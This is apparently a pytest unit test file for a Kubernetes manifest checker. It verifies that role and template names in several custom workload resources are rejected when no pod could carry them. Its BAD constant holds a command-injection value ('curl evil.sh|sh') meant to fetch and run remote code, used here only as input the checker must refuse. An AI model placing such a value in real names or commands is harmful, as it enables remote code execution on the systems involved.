"""Names that controllers make for pods are checked like those that people write."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.unit.manifests.texts import loaded, messages

BAD = "a; curl evil.sh|sh #"
POD = {"spec": {"containers": [{"name": "a", "image": "x", "resources": {"limits": {"nvidia.com/gpu": 1}}}]}}
IMAGE = {"image": {"repository": "a", "tag": "b"}, "resources": {"limits": {"nvidia.com/gpu": 1}}}


def group(role: str, name: str = "b") -> str:
    return of("workloads.x-k8s.io/v1alpha1", "RoleBasedGroup", {"roles": [{"name": role, "template": POD}]}, name)


def of(version: str, kind: str, spec: dict[str, Any], name: str = "b") -> str:
    return json.dumps({"apiVersion": version, "kind": kind, "metadata": {"name": name}, "spec": spec})


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(group(BAD), id="RoleBasedGroup"),
        pytest.param(group("UPPER <ROLE> x"), id="placeholder"),
        pytest.param(
            of("argoproj.io/v1alpha1", "Workflow", {"templates": [{"name": BAD, "container": {"image": "x"}}]}),
            id="Workflow",
        ),
        pytest.param(
            of(
                "orchestration.aibrix.ai/v1alpha1",
                "StormService",
                {"template": {"spec": {"roles": [{"name": BAD, "template": POD}]}}},
            ),
            id="StormService",
        ),
        pytest.param(
            of(
                "apps.nvidia.com/v1alpha1",
                "NIMPipeline",
                {"services": [{"name": BAD, "enabled": True, "spec": IMAGE}]},
            ),
            id="NIMPipeline",
        ),
        pytest.param(group("r" * 300), id="long"),
    ],
)
def test_a_name_of_a_role_or_template_that_no_pod_can_have_is_an_error(text: str) -> None:
    found = loaded(text)
    assert any(
        "of a pod that it makes" in one and "such as that of a role or template" in one for one in messages(found)
    )
    assert not found.ok
    assert not found.snapshot.pods


def test_the_name_of_the_object_itself_is_refused_once_and_a_long_one_is_shortened_by_its_controller() -> None:
    assert [one for one in messages(loaded(group("a", "B"))) if "refuses the name" in one] == [
        one for one in messages(loaded(group("a", "B"))) if "metadata.name" in one
    ]
    assert loaded(group("a", "b" * 252)).ok
